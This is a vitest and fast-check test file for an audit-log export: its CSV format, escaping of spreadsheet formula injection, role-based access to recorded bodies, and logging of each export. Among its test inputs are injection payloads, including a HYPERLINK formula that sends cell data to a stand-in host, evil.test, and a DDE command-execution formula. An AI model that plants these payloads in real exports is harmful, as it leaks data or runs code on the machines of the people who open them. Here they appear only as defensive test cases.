import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { CSV_HEADER, toCsvRow } from '../../../src/admin/audit-csv.ts'
import { auditCheckpoints, exportAuditLog, queryAuditLog, tailAuditLog } from '../../../src/admin/audit.ts'
import type { AuditRecord } from '../../../src/kernel/audit.ts'
import type { Principal, Role } from '../../../src/kernel/principal.ts'
import { adminWorld } from '../../helpers/admin-world.ts'

const COLUMNS = CSV_HEADER.trimEnd().split(',')
const RECORD: AuditRecord = {
  seq: 7,
  type: 'tool.call',
  phase: 'outcome',
  at: 1_700_000_000_000,
  prev: 'p',
  hash: 'h',
  agent: 'sidekick',
  durationMs: 1.5,
}
const BODIES = {
  arguments: { to: 'secret-argument' },
  argumentsHash: 'secret-hash',
  projection: { to: 'secret-projection' },
  result: { text: 'secret-result' },
  claims: { salary: 'secret-claim' },
}
const signal = AbortSignal.timeout(60_000)

const person = (...roles: readonly Role[]): Principal => ({
  id: 'person:ann',
  agent: 'ann',
  organisation: 'acme',
  credential: 'person',
  claims: {},
  groups: [],
  roles,
})

/** The cells of one line, by RFC 4180 and nothing else. */
function cellsOf(line: string): readonly string[] {
  const cells: string[] = []
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy
  for (let match = cell.exec(line); match; match = cell.exec(line)) {
    cells.push((match[1] ?? match[2] ?? '').replaceAll('""', '"'))
    if (match[3] !== ',') break
  }
  return cells
}

const cellOf = (record: Partial<AuditRecord>, column: string): string =>
  cellsOf(toCsvRow({ ...RECORD, ...record }))[COLUMNS.indexOf(column)] ?? 'no such cell'

describe('the export as CSV', () => {
  it('has the documented columns, one line a record, numbers and times as they are', () => {
    expect(CSV_HEADER).toBe(
      'seq,time,type,phase,requestId,trace,principal,agent,user,groups,labels,tool,connection,decision,rule,obligations,shadow,approval,outcome,code,reason,durationMs,policyVersion,detail,claims,projection,argumentsHash,arguments,result,hash\r\n',
    )
    expect(toCsvRow(RECORD)).toBe(
      `7,2023-11-14T22:13:20.000Z,"tool.call","outcome",,,,"sidekick",,,,,,,,,,,,,,1.5,,,,,,,,"h"\r\n`,
    )
    expect(cellOf({ groups: ['a', 'b'] }, 'groups')).toBe('["a","b"]')
  })

  it.each([
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '\ufeff=1+1',
    '\u200b=1+1',
    '\u0000=1+1',
    '\u202e=1+1',
    '\uff1d1+1',
    '\uff0b1',
    '\uff0d1',
    '\uff20SUM(A1)',
    '=HYPERLINK("https://evil.test?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '=1","=2',
  ])('takes the meaning of a formula from %j', (attack) => {
    for (const column of ['agent', 'user', 'tool', 'reason', 'rule'] as const) {
      expect(cellOf({ [column]: attack }, column)).toBe(`'${attack}`)
    }
  })

  it('leaves alone what is none, and cannot be broken out of', () => {
    for (const text of ['a=b', 'conn:mail:send', '1-2', 'é', 'a\r\nb,"c";d', "'quoted'"])
      expect(cellOf({ reason: text }, 'reason')).toBe(text)
    expect(cellOf({ arguments: '=1+1' }, 'arguments')).toBe("'=1+1")
    expect(cellOf({ arguments: ['=1+1'] }, 'arguments')).toBe('["=1+1"]')
    expect(cellOf({ result: -5 }, 'result')).toBe("'-5")
    const forged = JSON.parse('{"durationMs":"=1+1"}')
    expect(cellOf(forged, 'durationMs')).toBe('')
  })

  it('is read back as it was, whatever stands in it, and no cell begins as a formula', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.string(), fc.jsonValue(), (reason, tool, json) => {
        const row = toCsvRow({ ...RECORD, reason, tool, arguments: JSON.parse(JSON.stringify(json)) })
        const cells = cellsOf(row)
        expect(cells).toHaveLength(COLUMNS.length)
        for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/)
        const [said, asked] = [cells[COLUMNS.indexOf('reason')] ?? '', cells[COLUMNS.indexOf('tool')] ?? '']
        expect([reason, `'${reason}`]).toContain(said)
        expect([tool, `'${tool}`]).toContain(asked)
      }),
      { numRuns: 1_000 },
    )
  })
})

describe('what was sent and answered', () => {
  const roles: readonly (readonly [Role, boolean])[] = [
    ['viewer', false],
    ['approver', false],
    ['auditor', true],
    ['admin', true],
  ]

  it.each(roles)('is for a %s to read: %s, by every way to the log', async (role, mayRead) => {
    const { deps, append } = await adminWorld()
    append({ ...RECORD, ...BODIES })
    const who = person(role)
    const ways: string[] = []
    ways.push(JSON.stringify(await queryAuditLog(deps, who, { filter: { agent: 'sidekick' }, signal })))
    for (const format of ['jsonl', 'csv'] as const) {
      ways.push(await textOf(await exportAuditLog(deps, who, { filter: { agent: 'sidekick' }, format, signal })))
    }
    const ending = new AbortController()
    for await (const record of await tailAuditLog(deps, who, { last: 50, signal: ending.signal })) {
      if (record.agent !== 'sidekick') continue
      ways.push(JSON.stringify(record))
      ending.abort()
      break
    }
    expect(ways).toHaveLength(4)
    for (const text of ways) {
      expect(text).toContain('sidekick')
      expect(text.match(/secret-\w+/g) ?? []).toHaveLength(mayRead ? Object.keys(BODIES).length : 0)
    }
  })

  it('cannot be guessed by searching: words are for auditors, and each refusal and export is recorded', async () => {
    const { deps, records } = await adminWorld()
    const filter = { text: 'secret' }
    for (const role of ['viewer', 'approver'] as const) {
      const refused = exportAuditLog(deps, person(role), { filter, format: 'csv', signal })
      await expect(refused).rejects.toMatchObject({ code: 'forbidden' })
    }
    await exportAuditLog(deps, person('auditor'), { filter, format: 'csv', signal })
    await exportAuditLog(deps, person('viewer'), { filter: {}, format: 'jsonl', signal })
    expect(records).toMatchObject([
      { type: 'audit.exported', outcome: 'denied' },
      { type: 'audit.exported', outcome: 'denied' },
      { type: 'audit.exported', outcome: 'ok', detail: { filter, format: 'csv', bodies: true } },
      { type: 'audit.exported', outcome: 'ok', detail: { filter: {}, format: 'jsonl', bodies: false } },
    ])
  })

  it('is not exported when the export cannot be recorded', async () => {
    const { deps } = await adminWorld({ auditFails: true })
    const refused = exportAuditLog(deps, person('auditor'), { filter: {}, format: 'csv', signal })
    await expect(refused).rejects.toMatchObject({ code: 'audit_unavailable' })
  })
})

describe('the public keys of checkpoints', () => {
  it('are shown to whoever may look, and nothing but their public half', async () => {
    const { deps } = await adminWorld()
    const shown = await auditCheckpoints(deps, person('viewer'))
    expect(shown).toEqual({
      keys: [{ kid: expect.stringMatching(/^[\w-]{16}$/), spki: expect.any(String) }],
      troubles: [],
    })
  })
})

async function textOf(pieces: AsyncIterable<string>): Promise<string> {
  let text = ''
  for await (const piece of pieces) text += piece
  return text
}
